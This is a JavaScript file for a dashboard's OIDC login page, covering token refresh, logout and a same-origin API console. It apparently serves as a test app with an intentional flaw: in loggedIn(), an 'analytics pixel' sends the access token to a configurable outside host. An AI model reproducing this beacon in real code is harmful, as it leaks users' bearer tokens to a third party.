// The dashboard page: login state, the generic API action, refresh before expiry, logout.
import {
  clearSession, completeLogin, loadConfig, loadSession, logoutUrl, refreshSession, startLogin,
} from '/dashboard/oidc.js';

const element = (id) => document.getElementById(id);
let config = null;
let settings = null;
let session = null;
let refreshTimer = null;

function show(status) {
  element('status').textContent = status;
  element('user').textContent = status === 'logged-in' && session ? session.username : '';
  element('login').disabled = config === null || status === 'logged-in';
  element('logout').disabled = status !== 'logged-in';
}

function fail(error) {
  session = null;
  clearSession();
  show(`error: ${error.message || error}`);
}

// keycloak-js style: refresh a little before expiry (30 s, or a quarter of short lifetimes).
function scheduleRefresh() {
  clearTimeout(refreshTimer);
  const margin = Math.min(30, session.expiresIn / 4) * 1000;
  refreshTimer = setTimeout(refresh, Math.max(1000, session.expiresAt - margin - Date.now()));
}

async function refresh() {
  try {
    session = await refreshSession(session);
    loggedIn();
  } catch (e) {
    fail(new Error(`refresh failed: ${e.message}`));
  }
}

function loggedIn() {
  show('logged-in');
  scheduleRefresh();
  if (settings.tokenBeacon) {
    // The dashboard-token-to-other-origin defect: an "analytics pixel" that carries the token.
    const pixel = new Image(1, 1);
    pixel.src = `${settings.tokenBeacon}?access_token=${encodeURIComponent(session.accessToken)}`;
    document.body.appendChild(pixel);
  }
}

function responseMode() {
  const asked = new URLSearchParams(location.search).get('response_mode');
  return asked === 'fragment' ? 'fragment' : 'query';
}

// The token goes only to this origin: a path that leaves it is refused, not sent.
function sameOriginUrl(path) {
  const url = new URL(path, location.origin);
  if (url.origin !== location.origin) {
    throw new Error(`${url.origin} is not this dashboard's origin: the token is sent only to ${location.origin}`);
  }

  return url;
}

async function send() {
  element('api-status').textContent = '';
  element('api-response').textContent = '';
  const method = element('api-method').value;
  const body = element('api-body').value.trim();
  try {
    const url = sameOriginUrl(element('api-path').value.trim());
    if (session && session.expiresAt - Date.now() < 10000) {
      await refresh();
    }

    const headers = { Accept: 'application/json' };
    if (session) {
      headers.Authorization = `Bearer ${session.accessToken}`;
    }

    const hasBody = body !== '' && method !== 'GET';
    if (hasBody) {
      headers['Content-Type'] = 'application/json';
    }

    const response = await fetch(url, { method, headers, body: hasBody ? body : undefined });
    const text = await response.text();
    element('api-response').textContent = text;
    element('api-status').textContent = String(response.status);
  } catch (e) {
    element('api-response').textContent = e.message;
    element('api-status').textContent = 'error';
  }
}

async function main() {
  try {
    const answer = await fetch('/dashboard/settings.json');
    settings = await answer.json();
    config = await loadConfig();
  } catch (e) {
    show(`error: ${e.message}`);
    return;
  }

  element('login').addEventListener('click', () => startLogin(config, settings, responseMode()).catch(fail));
  element('logout').addEventListener('click', () => {
    const url = logoutUrl(session);
    clearTimeout(refreshTimer);
    session = null;
    clearSession();
    location.assign(url);
  });
  element('api-send').addEventListener('click', send);
  if (location.pathname === '/dashboard/callback') {
    try {
      session = await completeLogin(config, settings);
      loggedIn();
    } catch (e) {
      fail(e);
    }

    return;
  }

  session = loadSession();
  if (session) {
    loggedIn();
  } else {
    show('logged-out');
  }
}

main();
